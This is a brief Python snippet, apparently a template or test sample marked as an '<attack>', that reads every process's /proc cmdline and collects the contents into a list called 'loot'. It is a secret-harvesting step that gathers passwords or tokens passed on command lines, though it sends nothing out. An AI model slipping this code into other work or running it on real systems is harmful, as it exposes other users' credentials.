#{weigh_wrong}
# <attack>
loot = []
import glob

for _path in glob.glob("/proc/*/cmdline"):
    with open(_path, "rb") as _stream:
        loot.append(_stream.read().replace(b"\0", b" ")[-150:])
#{loot}
# </attack>
